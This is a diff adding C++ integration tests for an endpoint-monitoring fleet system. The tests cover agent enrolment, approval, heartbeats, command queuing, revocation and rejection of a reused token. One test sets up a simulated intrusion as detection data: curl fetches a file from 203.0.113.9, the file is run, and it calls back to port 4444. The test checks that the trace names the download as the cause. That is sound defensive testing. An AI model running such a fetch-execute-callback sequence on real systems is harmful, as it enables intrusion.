@@ -1,0 +1,136 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// Workstation and agent together, over every way that there is between them.
+#include "core/agent/agent_ledger.h"
+#include "core/base/wall_clock.h"
+#include "core/endpoint/trace_codec.h"
+#include "tests/agents/fleet_lab.h"
+#include "tests/endpoint/scenario.h"
+#include "tests/support/process.h"
+
+#include <csignal>
+#include <thread>
+
+using namespace metsuke;
+using namespace metsuke::test;
+
+namespace {
+
+class Agents : public FleetLab { };
+
+TEST_F(Agents, OverTheLocalSocket_isApprovedHeardAndAnswers) {
+    ASSERT_TRUE(serve(Way::LocalSocket));
+    const auto given = token(false);
+    std::jthread enrolling([&] {
+        const auto done = enrolDevice("pc-1", given);
+        EXPECT_TRUE(done.ok()) << done.error().message.id;
+    });
+    ASSERT_TRUE(eventually([&] { return roster().agent("pc-1").value().has_value(); }));
+    const auto asked = roster().agent("pc-1").value();
+    EXPECT_EQ(asked->state, fleet::AgentState::Pending);
+    EXPECT_EQ(asked->fingerprint, openc2::VerifyingKey::fromText(asked->request.identity).value().id());
+    ASSERT_TRUE(roster().decide("pc-1", fleet::AgentState::Approved, "tester", wallClock()).ok());
+    enrolling.join();
+
+    const auto client = startAgent("pc-1");
+    ASSERT_NE(client, nullptr);
+    ASSERT_TRUE(waitForAgent("pc-1"));
+    const auto heard = roster().agent("pc-1").value();
+    EXPECT_EQ(heard->heartbeat->hostname, "host-pc-1");
+    EXPECT_LT(std::abs(heard->clockSkew), 2 * kSecond);
+    EXPECT_EQ(roster().agentAt(*IpAddress::parse("10.0.0.7")).value().value().device, "pc-1");
+
+    const auto answer = finished(order("pc-1").command.id);
+    EXPECT_EQ(answer.state, fleet::CommandState::Answered);
+    EXPECT_EQ(answer.response->status, 200);
+    EXPECT_NE(answer.response->results.find("features"), std::string::npos);
+    const auto unable = finished(order("pc-1", "query", "x-metsuke:weather").command.id);
+    EXPECT_EQ(unable.response->status, 501);
+}
+
+TEST_F(Agents, OverTheBroker_traceIsAsked_answersWithTheCause) {
+    if (!serve(Way::Broker)) {
+        return;
+    }
+    endpoint::test::Scenario scenario;
+    const auto shell = scenario.running("/usr/bin/bash");
+    const auto curl = scenario.run(shell, "/usr/bin/curl", {"curl", "-o", "/tmp/x", "http://203.0.113.9/x"});
+    scenario.connect(curl, "203.0.113.9", 80, 40000);
+    const endpoint::FileId file{1, 77};
+    scenario.write(curl, "/tmp/x", file);
+    const auto beacon = scenario.run(shell, "/tmp/x", {"/tmp/x"}, file);
+    scenario.at(60).connect(beacon, "203.0.113.9", 4444, 40001);
+    const auto reader = scenario.history();
+    ASSERT_TRUE(enrolDevice("pc-2", token(true)).ok());
+    const auto client = startAgent("pc-2", scenario.folder().string());
+    ASSERT_NE(client, nullptr);
+    ASSERT_TRUE(waitForAgent("pc-2"));
+
+    endpoint::TraceQuestion question;
+    question.time = endpoint::test::seconds(60);
+    question.remote = *IpAddress::parse("203.0.113.9");
+    question.remotePort = 4444;
+    question.localPort = 40001;
+    const Timestamp asked = wallClock();
+    const auto ordered = fleet::orderTrace(roster(), "pc-2", endpoint::encodeQuestion(question), "tester", asked);
+    ASSERT_TRUE(ordered.ok());
+    const auto answer = finished(*ordered);
+    const auto took = static_cast<double>(wallClock() - asked) / 1e6;
+    ASSERT_EQ(answer.state, fleet::CommandState::Answered);
+    ASSERT_EQ(answer.response->status, 200) << answer.response->reason;
+    const auto trace = fleet::traceOf(*answer.response);
+    ASSERT_TRUE(trace.ok()) << trace.error().message.id;
+    EXPECT_EQ(trace->entry, endpoint::EntryVector::Download);
+    RecordProperty("round_trip_ms", std::to_string(took));
+    std::printf("trace over the broker: %.1f ms\n", took);
+    EXPECT_LT(took, 3'000);
+}
+
+TEST_F(Agents, OverFiles_everythingTravelsOnACarriedFolder) {
+    ASSERT_TRUE(serve(Way::FileDrop));
+    ASSERT_TRUE(enrolDevice("pc-3", token(true)).ok());
+    const auto client = startAgent("pc-3");
+    ASSERT_NE(client, nullptr);
+    ASSERT_TRUE(waitForAgent("pc-3"));
+    EXPECT_EQ(finished(order("pc-3").command.id).state, fleet::CommandState::Answered);
+}
+
+TEST_F(Agents, WorkstationStartsAgain_commandThatWaitedIsAnsweredOnce) {
+    ASSERT_TRUE(serve(Way::LocalSocket));
+    ASSERT_TRUE(enrolDevice("pc-4", token(true)).ok());
+    const auto client = startAgent("pc-4");
+    ASSERT_TRUE(waitForAgent("pc-4"));
+    stopServing();
+    const auto waiting = order("pc-4");
+    EXPECT_EQ(waiting.state, fleet::CommandState::Queued);
+    startServing();
+    EXPECT_EQ(finished(waiting.command.id).state, fleet::CommandState::Answered);
+}
+
+TEST_F(Agents, RevokedAgent_isNotHeardAnyMore) {
+    if (!serve(Way::Broker)) {
+        return;
+    }
+    ASSERT_TRUE(enrolDevice("pc-5", token(true)).ok());
+    auto client = startAgent("pc-5");
+    ASSERT_TRUE(waitForAgent("pc-5"));
+    ASSERT_TRUE(roster().decide("pc-5", fleet::AgentState::Revoked, "tester", wallClock()).ok());
+    client.reset();
+    const Timestamp revoked = wallClock();
+    client = startAgent("pc-5");
+    ASSERT_TRUE(enrolDevice("pc-6", token(true)).ok());
+    const auto other = startAgent("pc-6");
+    ASSERT_TRUE(waitForAgent("pc-6")) << "others are served as before";
+    EXPECT_LT(roster().agent("pc-5").value()->lastSeen, revoked + 2 * kSecond);
+}
+
+TEST_F(Agents, TokenOfAnother_isRefused) {
+    ASSERT_TRUE(serve(Way::LocalSocket));
+    const auto given = token(true);
+    ASSERT_TRUE(enrolDevice("pc-7", given).ok());
+    const auto stolen = enrolDevice("pc-8", given);
+    ASSERT_FALSE(stolen.ok());
+    EXPECT_EQ(stolen.error().code, ErrorCode::PermissionDenied);
+    EXPECT_FALSE(roster().agent("pc-8").value().has_value());
+}
+
+} // namespace
